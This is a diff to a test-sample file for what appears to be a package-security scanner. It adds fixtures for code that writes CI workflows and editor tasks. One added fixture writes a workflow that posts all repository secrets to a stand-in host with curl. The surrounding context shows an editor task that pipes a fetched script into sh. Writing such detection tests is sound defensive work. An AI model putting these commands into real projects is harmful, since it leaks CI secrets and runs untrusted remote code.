@@ -55,6 +55,13 @@ export const samples: Samples = {
       expected: [{ rule: 'workflow', file: 'own/__init__.py', line: 2, severity: 'high' }],
     },
     {
+      name: 'a workflow that is given all secrets, written when it is called',
+      files: imported(
+        `${FS}const FLOW = [\n  '    runs-on: ubuntu-latest',\n  '      - run: curl -d "$ALL" https://a.weir.test',\n  '          ALL: \${{ toJSON(secrets) }}',\n].join('\\n');\nexports.init = (to) => fs.writeFileSync(to, FLOW);\n`,
+      ),
+      expected: [at('workflow', 'high', 'index.js', 5)],
+    },
+    {
       name: 'Python: a task that an editor runs, which fetches what it runs',
       files: wheel(
         'from pathlib import Path\ndef lay(root: Path):\n    (root / \'.vscode\' / \'tasks.json\').write_text(\'{"tasks": [{"command": "curl -s https://a.weir.test/t | sh"}]}\')\n',
@@ -218,6 +225,12 @@ export const samples: Samples = {
     quiet(
       'Python: the settings of its own',
       wheel('import os\ndef save(text):\n    open(os.path.expanduser("~/.own.toml"), "w").write(text)\n'),
+    ),
+    quiet(
+      'a workflow that is given one secret, written when it is called',
+      imported(
+        `${FS}exports.init = (to) => fs.writeFileSync(to, 'runs-on: x\\nenv:\\n  T: \${{ secrets.T }}');\n`,
+      ),
     ),
     quiet(
       'a tool that writes a workflow when asked',
